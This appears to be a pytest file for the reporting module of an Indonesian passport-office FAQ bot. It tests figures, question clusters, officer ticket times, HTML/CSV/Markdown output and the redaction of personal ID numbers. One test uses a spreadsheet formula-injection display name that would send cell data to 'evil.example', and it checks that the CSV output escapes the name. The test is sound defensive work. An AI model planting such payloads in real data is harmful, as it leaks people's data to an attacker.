"""The full report on a known log, on SQLite and PostgreSQL: every figure, the clusters, the
files of each format, the applicants' months, and that only redacted text ever comes out."""

from __future__ import annotations

import base64
import datetime as dt
import re
from pathlib import Path

import pytest
from sqlalchemy.ext.asyncio import AsyncEngine

from bot.reporting.applicants import ApplicantMonth
from bot.reporting.collect import collect
from bot.reporting.figures import Day, EntryFigures, Officer, OfficeReport, Tickets
from bot.reporting.output import write_report
from bot.reporting.period import Period
from bot.storage import Store
from bot.storage.report_queries import ReportQueries

from .helpers import (
    DAYS,
    FIRST,
    LAST,
    NOW,
    OTP,
    OTP_MORE,
    PET,
    QUEUE,
    RAW_VALUES,
    REDACTED_NIK_TEXT,
    ZONE,
    Clock,
    local,
    read_csv,
    seed,
)

TITLES = {"biaya-paspor": "Biaya paspor", "syarat-anak": "Syarat paspor anak"}
PERIOD = Period(FIRST, LAST, ZONE)
PREFIX = "laporan_2026-11-01_2026-11-03"
HEADINGS = (
    "Ringkasan",
    "Pertanyaan per hari",
    "Entri teratas dan penilaiannya",
    "Pertanyaan yang belum terjawab",
    "Suara pemohon",
    "Tiket ke petugas",
    "Rencana konten",
)
CSV_NAMES = (
    *("harian", "entri", "belum_terjawab"),
    *("suara_pemohon", "suara_pemohon_mingguan", "suara_pemohon_contoh"),
    *("tiket", "petugas", "rencana_konten"),
)


async def build(engine: AsyncEngine, **options: object) -> OfficeReport:
    clock = Clock()
    await seed(Store(engine, clock=clock), clock)
    return await collect(
        ReportQueries(engine),
        PERIOD,
        titles=TITLES,
        now=NOW,
        remind_after=dt.timedelta(minutes=30),
        **options,  # type: ignore[arg-type]
    )


@pytest.fixture
async def report(engine: AsyncEngine) -> OfficeReport:
    return await build(engine)


def test_questions_per_day_and_channel(report: OfficeReport) -> None:
    assert {(d.day, d.channel): (d.answered, d.clarified, d.fallback) for d in report.days} == DAYS
    assert report.questions == 16
    assert report.totals() == (7, 2, 7, 0)  # no message went to the officers
    per_day = report.per_day()
    assert [d.day for d in per_day] == PERIOD.days()  # the empty third day is there too
    assert per_day[2] == Day(LAST, "semua", 0, 0, 0)


def test_entries_with_feedback_worst_first(report: OfficeReport) -> None:
    by_id = {e.faq_id: e for e in report.entries}
    assert by_id["biaya-paspor"] == EntryFigures(
        "biaya-paspor", "Biaya paspor", 5, 2, 2, details=3
    )
    assert by_id["biaya-paspor"].details_share == 0.6
    assert by_id["syarat-anak"].details == 1
    assert by_id["biaya-paspor"].unhelpful_share == 0.5
    assert by_id["biaya-paspor"].needs_rewrite
    assert by_id["syarat-anak"].unhelpful_share is None  # one vote says too little
    # Unanswered questions count for the entry the matcher ranked first.
    assert (by_id["akun-otp"].clarified, by_id["akun-otp"].fallback) == (0, 4)
    assert (by_id["kuota-jadwal"].clarified, by_id["kuota-jadwal"].fallback) == (2, 1)
    assert by_id["akun-otp"].title == "akun-otp"  # no title known: the id stands in
    assert report.entries[0].faq_id == "biaya-paspor"


def test_paraphrases_form_one_cluster_and_different_needs_stay_apart(report: OfficeReport) -> None:
    groups = {frozenset(c.examples): c for c in report.clusters}
    sizes = sorted((c.size for c in report.clusters), reverse=True)
    assert sizes == [4, 3, 1, 1]
    otp, queue = report.clusters[0], report.clusters[1]
    assert set(otp.examples) <= {*OTP, OTP_MORE}
    assert otp.nearest == ("akun-otp",)
    assert set(queue.examples) == set(QUEUE)
    assert queue.nearest == ("kuota-jadwal",)
    assert (otp.first_seen, otp.last_seen) == (
        dt.datetime(2026, 11, 1, 4, 0, tzinfo=dt.UTC),
        dt.datetime(2026, 11, 2, 2, 20, tzinfo=dt.UTC),
    )
    assert frozenset({PET}) in groups
    assert report.unanswered_total == 9
    assert not report.unanswered_capped


def test_tickets_reply_times_and_officers(report: OfficeReport) -> None:
    assert report.tickets == Tickets(
        opened=5,
        answered=3,
        median_minutes=40.0,
        p90_minutes=56.0,
        claimed_late=2,  # replied (so taken) after 40 min; never taken
        still_open_unclaimed=1,
        # Budi wrote the first reply to the ticket Rina claimed.
        officers=(Officer("Budi", 2, 50.0), Officer("Rina", 1, 20.0)),
    )


def test_content_plan_names_bad_answers_and_unrecognised_wordings(report: OfficeReport) -> None:
    topics = {idea.topic: idea.reason for idea in report.plan}
    assert "50% penilaian 👎" in topics["Biaya paspor"]
    # Each OTP wording was asked once; the newest names the group.
    assert topics["akun-otp"] == (
        f"4 pertanyaan; 100% tidak langsung dikenali bot, misalnya “{OTP_MORE}”:"
        " pakai kata-kata yang dipakai pemohon."
    )
    # The queue group is kuota-jadwal's trouble, so it is not a topic of its own as well.
    assert not any("antr" in topic for topic in topics)
    assert len(report.plan) <= 5
    assert all(len(idea.reason.splitlines()) == 1 for idea in report.plan)


async def test_small_talk_is_no_content_topic(engine: AsyncEngine) -> None:
    report = await build(engine, small_talk={"biaya-paspor"})
    assert "Biaya paspor" not in {idea.topic for idea in report.plan}


def test_html_report_has_every_section_and_csv_tables(
    report: OfficeReport, tmp_path: Path
) -> None:
    paths = write_report(report, tmp_path, "html")
    assert [p.name for p in paths] == [
        f"{PREFIX}.html",
        *(f"{PREFIX}_{name}.csv" for name in CSV_NAMES),
    ]
    page = paths[0].read_text(encoding="utf-8")
    for heading in HEADINGS:
        assert f"<h2>{heading}</h2>" in page
    images = re.findall(r'src="data:image/png;base64,([^"]+)"', page)
    assert len(images) == 2  # daily questions and the entries' feedback
    assert all(base64.b64decode(data).startswith(b"\x89PNG\r\n\x1a\n") for data in images)
    assert "perlu ditulis ulang" in page
    for outside in ("<link", "<script", "http"):  # self-contained: nothing from the network
        assert outside not in page


def test_csv_contents(report: OfficeReport, tmp_path: Path) -> None:
    out = tmp_path / "out"
    write_report(report, out, "csv")
    daily = read_csv(out / f"{PREFIX}_harian.csv")
    assert daily[0] == {
        "tanggal": "2026-11-01",
        "saluran": "telegram",
        "pertanyaan": "6",
        "terjawab": "4",
        "perlu_pilihan": "1",
        "tidak_dikenali": "1",
        "persen_terjawab": "66.7",
        "persen_perlu_pilihan": "16.7",
        "persen_tidak_dikenali": "16.7",
        "ke_petugas": "0",
        "persen_ke_petugas": "0.0",
    }
    assert len(daily) == 4
    entries = {row["faq_id"]: row for row in read_csv(out / f"{PREFIX}_entri.csv")}
    assert entries["biaya-paspor"]["persen_tidak_membantu"] == "50.0"
    assert entries["biaya-paspor"]["minta_selengkapnya"] == "3"
    assert entries["biaya-paspor"]["perlu_ditulis_ulang"] == "ya"
    assert entries["syarat-anak"]["persen_tidak_membantu"] == ""
    clusters = read_csv(out / f"{PREFIX}_belum_terjawab.csv")
    assert [row["jumlah"] for row in clusters] == ["4", "3", "1", "1"]
    assert clusters[0]["entri_terdekat"] == "akun-otp"
    assert clusters[0]["pertama"] == "2026-11-01T11:00+07:00"
    tickets = {r["ukuran"]: r["nilai"] for r in read_csv(out / f"{PREFIX}_tiket.csv")}
    assert tickets["median_menit_balasan_pertama"] == "40.0"
    assert tickets["p90_menit_balasan_pertama"] == "56.0"
    officers = read_csv(out / f"{PREFIX}_petugas.csv")
    assert officers == [
        {"petugas": "Budi", "tiket_dijawab": "2", "median_menit_balasan": "50.0"},
        {"petugas": "Rina", "tiket_dijawab": "1", "median_menit_balasan": "20.0"},
    ]
    assert sorted(path.suffix for path in out.iterdir()) == [".csv"] * len(CSV_NAMES)


def test_markdown_format(report: OfficeReport, tmp_path: Path) -> None:
    paths = write_report(report, tmp_path, "md")
    assert paths[0].name == f"{PREFIX}.md"
    assert len(paths) == 1 + len(CSV_NAMES)
    document = paths[0].read_text(encoding="utf-8")
    assert "## Rencana konten" in document
    assert "| Biaya paspor (biaya-paspor) | 5 | 3 (60%) | 2 | 2 | 50% |" in document
    assert "nik saya \\[NIK\\] tidak terdaftar" in document  # brackets cannot become a link


async def test_only_redacted_text_reaches_the_files(report: OfficeReport, tmp_path: Path) -> None:
    written = [
        *write_report(report, tmp_path / "html", "html"),
        *write_report(report, tmp_path / "md", "md"),
    ]
    everything = "\n".join(path.read_text(encoding="utf-8-sig") for path in written)
    for raw in RAW_VALUES:
        assert raw not in everything
    assert REDACTED_NIK_TEXT in everything  # the redacted text is what is shown
    for text in (PET, *QUEUE):
        assert text in everything


async def test_officer_display_names_cannot_become_spreadsheet_formulas(
    engine: AsyncEngine, tmp_path: Path
) -> None:
    # A Telegram display name is chosen by whoever joins the officers' group.
    name = '=HYPERLINK("https://evil.example/?d="&A1,"Klik")'
    clock = Clock(local(1, 9))
    store = Store(engine, clock=clock)
    ticket = await store.open_ticket(
        channel="telegram", chat_id="1", user_hash="u", question="q", guesses=(), context=()
    )
    clock.now = local(1, 9, 10)
    assert await store.record_officer_reply(ticket.id, name, name, "sudah kami bantu")
    report = await collect(
        ReportQueries(engine), PERIOD, titles={}, now=NOW, remind_after=dt.timedelta(minutes=30)
    )
    write_report(report, tmp_path, "csv")
    (officer,) = read_csv(tmp_path / f"{PREFIX}_petugas.csv")
    assert officer["petugas"] == "'" + name  # shown as text, never computed


async def test_applicants_months_next_to_the_bots_volume(
    engine: AsyncEngine, tmp_path: Path
) -> None:
    months = [
        ApplicantMonth(dt.date(2026, 10, 1), walk_in=300, m_paspor=100),
        ApplicantMonth(dt.date(2026, 11, 1), walk_in=200, m_paspor=200),
        ApplicantMonth(dt.date(2026, 12, 1), walk_in=0, m_paspor=0),
    ]
    report = await build(engine, applicants=months)
    assert report.applicants is not None
    # October holds the question a second before the period; November the 16 and the one
    # just after the period.
    assert [(r.month.share, r.questions) for r in report.applicants] == [
        (0.25, 1),
        (0.5, 17),
        (None, 0),
    ]
    paths = write_report(report, tmp_path, "html")
    assert paths[-1].name == f"{PREFIX}_pemohon.csv"
    assert read_csv(paths[-1])[1] == {
        "bulan": "2026-11",
        "walk_in": "200",
        "m_paspor": "200",
        "persen_m_paspor": "50.0",
        "pertanyaan_bot": "17",
    }
    page = paths[0].read_text(encoding="utf-8")
    assert "<h2>Pemohon lewat M-Paspor</h2>" in page
    assert page.count("data:image/png;base64,") == 3


async def test_an_empty_log_still_reports(engine: AsyncEngine, tmp_path: Path) -> None:
    report = await collect(
        ReportQueries(engine),
        PERIOD,
        titles={},
        now=NOW,
        remind_after=dt.timedelta(minutes=30),
    )
    assert (report.questions, report.entries, report.clusters, report.plan) == (0, (), (), ())
    assert report.tickets.median_minutes is None
    paths = write_report(report, tmp_path, "html")
    page = paths[0].read_text(encoding="utf-8")
    assert "Belum ada pertanyaan yang terjawab dalam periode ini." in page
    assert page.count("data:image/png;base64,") == 1  # the daily chart, all zero
